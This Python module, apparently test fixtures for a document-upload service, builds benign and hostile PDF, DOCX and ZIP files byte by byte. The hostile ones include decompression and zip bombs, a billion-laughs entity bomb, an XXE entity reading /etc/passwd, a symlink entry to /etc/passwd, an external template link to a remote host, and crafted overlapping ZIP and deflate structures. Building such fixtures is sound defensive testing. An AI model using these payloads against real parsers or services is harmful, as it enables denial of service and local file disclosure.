"""Files as honest and as hostile senders make them. Each is made here, byte by byte."""

import io
import random
import stat
import struct
import zipfile
import zlib

TEXT = "Staff MUST wash their hands before every contact with a patient."


# --- PDF --------------------------------------------------------------------------------------


def pdf(*pages, fonts=("Helvetica", "Helvetica-Bold")):
    """A PDF with these content streams, each a page: see `lines`."""
    count = len(pages)
    kids = " ".join(f"{10 + 2 * number} 0 R" for number in range(count))
    font = " ".join(f"/F{n} {3 + n} 0 R" for n in range(1, len(fonts) + 1))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
    }
    for number, name in enumerate(fonts, start=1):
        objects[3 + number] = (
            f"<< /Type /Font /Subtype /Type1 /BaseFont /{name} /Encoding /WinAnsiEncoding >>"
        ).encode()
    for number, content in enumerate(pages):
        objects[10 + 2 * number] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {11 + 2 * number} 0 R"
            f" /Resources << /Font << {font} >> >> >>"
        ).encode()
        objects[11 + 2 * number] = stream(content)
    return assembled(objects)


def lines(*lines):
    """A content stream: (text, size, x, y) or with bold=True as a fifth."""
    shown = ["BT"]
    for text, size, x, y, *bold in lines:
        escaped = text.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)")
        shown.append(f"/F{2 if bold else 1} {size} Tf 1 0 0 1 {x} {y} Tm ({escaped}) Tj")
    return "\n".join([*shown, "ET"]).encode("cp1252")


def stream(data, filters="/FlateDecode", packed=None, extra=""):
    packed = zlib.compress(data) if packed is None else packed
    head = f"<< /Length {len(packed)} /Filter {filters} {extra}>>\nstream\n".encode()
    return head + packed + b"\nendstream"


def assembled(objects, trailer="", version="1.7"):
    out = io.BytesIO()
    out.write(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    offsets = {}
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    start = out.tell()
    size = max(objects) + 1
    out.write(f"xref\n0 {size}\n0000000000 65535 f \n".encode())
    for number in range(1, size):
        at = offsets.get(number)
        out.write(b"0000000000 65535 f \n" if at is None else f"{at:010} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {size} /Root 1 0 R {trailer}>>\n".encode())
    out.write(f"startxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def flate_bomb(unpacked=400_000_000):
    """One content stream of blanks: 400 MB in less than a megabyte."""
    packer = zlib.compressobj(9)
    piece, packed = b" " * 1_000_000, []
    for _ in range(unpacked // len(piece)):
        packed.append(packer.compress(piece))
    packed.append(packer.flush())
    objects = one_page(stream(b"", packed=b"".join(packed)))
    return assembled(objects)


def nested_flate(unpacked=400_000_000):
    """A stream packed twice over: a gigabyte in a few kilobytes."""
    once = flate_stream_of(unpacked)
    twice = zlib.compress(once, 9)
    return assembled(one_page(stream(b"", "[/FlateDecode /FlateDecode]", packed=twice)))


def flate_stream_of(unpacked):
    packer = zlib.compressobj(9)
    piece = b" " * 1_000_000
    return b"".join(packer.compress(piece) for _ in range(unpacked // len(piece))) + packer.flush()


def one_page(content):
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
        b" >> >>",
        4: content,
    }


def many_pages(count=1_000_000, *, announced=True):
    """A tree that names one page again and again."""
    objects = one_page(stream(lines((TEXT, 11, 72, 700))))
    kids = b"3 0 R " * count
    told = count if announced else 1
    objects[2] = b"<< /Type /Pages /Kids [" + kids + f"] /Count {told} >>".encode()
    return assembled(objects)


def packed_pages(count=3_000):
    """So many page objects in one object stream, where they cannot be seen from outside."""
    pages = b" ".join(b"<< /Type /Page /Parent 2 0 R >>" for _ in range(count))
    objects = one_page(stream(lines((TEXT, 11, 72, 700))))
    objects[5] = stream(pages, extra="/Type /ObjStm /N 1 /First 4 ")
    return assembled(objects)


def encrypted_pdf():
    trailer = "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >> /ID [(a) (a)] "
    return assembled(one_page(stream(lines((TEXT, 11, 72, 700)))), trailer)


# --- DOCX -------------------------------------------------------------------------------------

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.{kind}.main+xml"/></Types>'
)
RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{relations}</Relationships>"
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(body=None, *, parts=None, styles="", numbering="", kind="document"):
    """A Word document with this body, and parts of it replaced or added; None leaves one out."""
    body = f"<w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>" if body is None else body
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    main = RELATIONSHIPS.format(
        relations=f'<Relationship Id="r1" Type="{OFFICE}/officeDocument"'
        ' Target="word/document.xml"/>'
    )
    files = {
        "[Content_Types].xml": CONTENT_TYPES.format(kind=kind),
        "_rels/.rels": main,
        "word/document.xml": f"{head}<w:document {W}><w:body>{body}</w:body></w:document>",
        "word/styles.xml": f"{head}<w:styles {W}>{styles}</w:styles>",
        "word/numbering.xml": f"{head}<w:numbering {W}>{numbering}</w:numbering>",
    } | (parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            if content is not None:
                archive.writestr(name, content)
    return out.getvalue()


def paragraph(text, style="", number="", level=0):
    properties = f'<w:pStyle w:val="{style}"/>' if style else ""
    if number:
        numbers = f'<w:ilvl w:val="{level}"/><w:numId w:val="{number}"/>'
        properties += f"<w:numPr>{numbers}</w:numPr>"
    return f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"


def row(*cells, head=False):
    marked = "<w:trPr><w:tblHeader/></w:trPr>" if head else ""
    return f"<w:tr>{marked}{''.join(cells)}</w:tr>"


def cell(text, properties=""):
    return f"<w:tc><w:tcPr>{properties}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"


def zip_bomb(unpacked=300_000_000):
    """A document.xml of 300 MB in some hundred kilobytes."""
    start = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body><w:p><w:r><w:t>'
    end = "</w:t></w:r></w:p></w:body></w:document>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(kind="document"))
        with archive.open("word/document.xml", "w", force_zip64=False) as part:
            part.write(start.encode())
            for _ in range(unpacked // 1_000_000):
                part.write(b"a" * 1_000_000)
            part.write(end.encode())
    return out.getvalue()


def with_doctype(doctype, text="&x;"):
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document {W}><w:body><w:p><w:r>'
        f"<w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )
    return docx(parts={"word/document.xml": document})


def entity_bomb():
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return with_doctype(f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>', "&l9;")


def external_entity(address="file:///etc/passwd"):
    return with_doctype(f'<!DOCTYPE x [<!ENTITY x SYSTEM "{address}">]>')


def hidden_entity():
    """A DTD in UTF-16, where a search for ASCII does not see it."""
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY x "y">]><w:document {W}/>'
    return docx(parts={"word/document.xml": text.encode("utf-16")})


def relations(*bodies, start=""):
    """A document with more parts like those that say what belongs to what: free XML after `start`,
    which may be a DTD. None packs so well that it would be refused for that."""
    parts = {
        f"word/_rels/{number}.rels": f'<?xml version="1.0"?>{start}{body}'
        for number, body in enumerate(bodies)
    }
    return docx(parts=parts)


def endless_names(count=150_000):
    """Each of many elements is called by the same long address: 30 GB of names in a megabyte."""
    address = random.Random(1).randbytes(100_000).hex()
    return relations(f'<r><r xmlns="{address}">{"<b/>" * count}</r></r>')


def hidden_entities():
    """A long entity, used in many parts, in a DTD behind a comment that holds a tag."""
    noise = random.Random(1).randbytes(300_000).hex()
    start = f"<!-- <a --><!DOCTYPE r [<!-- {noise} --><!ENTITY b '{'x' * 200_000}'>]>"
    return relations(*[f"<r>{'&b;' * 350}</r>"] * 15, start=start)


def external_relation(kind, address="http://198.51.100.1/x.dotm"):
    relation = f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{address}"'
    relations = RELATIONSHIPS.format(relations=f'{relation} TargetMode="External"/>')
    return docx(parts={"word/_rels/settings.xml.rels": relations})


def with_entry(name, content=b"x", mode=0, packing=zipfile.ZIP_STORED):
    """A document with one more file in its archive, whatever it is called and however packed."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo(name)
        entry.filename = name  # as it is: ZipInfo would mend some
        entry.external_attr = mode << 16
        entry.compress_type = packing
        archive.writestr(entry, content)
    return out.getvalue()


def damaged_lzma():
    """Python's zipfile raises another error for this than for whatever else is damaged."""
    content = bytearray(with_entry("word/more.xml", b"<x/>" * 50, packing=zipfile.ZIP_LZMA))
    at = content.index(b"word/more.xml") + len("word/more.xml")
    content[at + 4 : at + 12] = b"\xff" * 8
    return bytes(content)


def crowded_pdf():
    """As many beginnings of streams as fit, each behind a name that has to be unescaped."""
    return pdf(b"") + b"#41#41#41stream\n" * 60_000


def full_pdf(unit):
    """As large as a file may be, of one thing again and again."""
    frame = b"%%PDF-1.4\n%s\nstartxref\n0\n%%%%EOF"
    return frame % (unit * ((10_485_760 - len(frame)) // len(unit)))


def overlapping_streams(times=12, packed=5_000_000):
    """Streams that lie in one another: each begins with the next, and all go on with the same empty
    blocks, of which each brings a code of its own."""
    start = b" obj/Filter/Fl stream\n\x78\x01"
    stored = b"\0" + struct.pack("<HH", len(start), len(start) ^ 0xFFFF) + start
    block = _empty_block()
    nested = start + stored * (times - 1) + block * (packed // len(block))
    return b"%PDF-1.4\n" + nested + b"\nstartxref\n0\n%%EOF"


def _empty_block():
    """Eight blocks of deflate that hold nothing, with codes of 258 symbols in 15 bytes (RFC 1951,
    3.2.7)."""
    bits = [
        *((0, 1), (2, 2), (0, 5), (0, 5), (14, 4)),  # a dynamic block, 257 + 1 symbols, 18 lengths
        *((int(place in (2, 17)), 3) for place in range(18)),  # of "as many zeros" and of 1
        *((0, 1), (1, 1), (127, 7), (1, 1), (106, 7), (0, 1), (0, 1)),  # 0, the end, a distance
        (1, 1),  # the end
    ]
    number = length = 0
    for value, width in bits:
        number |= value << length
        length += width
    return sum(number << (length * n) for n in range(8)).to_bytes(length, "little")


def symlink():
    return with_entry("word/link", b"/etc/passwd", stat.S_IFLNK | 0o777)


def many_entries(count=3_000):
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(count):
            archive.writestr(f"word/{number}.txt", "")
    return out.getvalue()


def overlapping_entries(count=20, packed=2_000_000):
    """Parts that all have the same data: each header but the last is followed by the next ones, as
    a field of its own. To come upon their first element takes long."""
    document, names = docx(), [f"word/{number:04}.xml".encode() for number in range(count)]
    text, blanks, block = b"<a>%s" % (b" " * 9), b" " * 40_000, _empty_block()
    rest = b"\0" + struct.pack("<HH", len(blanks), len(blanks) ^ 0xFFFF) + blanks
    shared = block * (packed // len(block)) + b"\0" + struct.pack("<HH", 12, 0xFFF3) + text
    shared += rest * 2 + b"\x03\0"
    size, head = len(text) + 2 * len(blanks), 30 + len(names[0])
    first = int.from_bytes(document[-6:-2], "little")  # where the directory was
    headers = entries = b""
    for number, name in enumerate(names):
        field = (count - number - 1) * head
        common = struct.pack("<5H3L2H", 20, 0, 8, 0, 33, 0, len(shared), size, len(name), field)
        headers += b"PK\3\4" + common + name
        common = struct.pack("<6H3L", 20, 20, 0, 8, 0, 33, 0, len(shared), size)
        at = first + number * head
        entries += b"PK\1\2" + common + struct.pack("<5H2L", len(name), 0, 0, 0, 0, 0, at) + name
    return _with_directory(document, headers + shared, entries, count)


def long_directory(count=190_000):
    """A directory of which the record at the end says little, and one of ZIP64 before it all."""
    entry = b"PK\1\2" + struct.pack("<6H3L5H2L", 20, 20, *[0] * 7, 6, *[0] * 6)
    entries = b"".join(b"%s%06d" % (entry, number) for number in range(count))
    whole = _with_directory(docx(), b"", entries, count)
    start = whole.rindex(b"PK\5\6")
    (size, at), count = struct.unpack("<2L", whole[start + 12 : start + 20]), count + 5
    more = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, at)
    more += struct.pack("<4sLQL", b"PK\6\7", 0, start, 1)
    last = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, 100, start + len(more) - 100, 0)
    return whole[:start] + more + last


def _with_directory(document, data, entries, count):
    """An archive with more data before its directory, and more entries in that."""
    start = document.rindex(b"PK\5\6")
    known, _, at = struct.unpack("<H2L", document[start + 10 : start + 20])
    directory = document[at:start] + entries
    end = struct.pack("<4s4H", b"PK\5\6", 0, 0, *[min(known + count, 65_535)] * 2)
    end += struct.pack("<2LH", len(directory), at + len(data), 0)
    return document[:at] + data + directory + end


def encrypted_entry():
    """The flag of encryption, in the local header and in the directory."""
    content = bytearray(docx())
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


HTML = f"""<!doctype html><html><head><title>Site</title></head><body><nav>Home</nav><main>
<h1>Hand hygiene</h1><p>{TEXT}</p></main><footer>Imprint</footer></body></html>"""
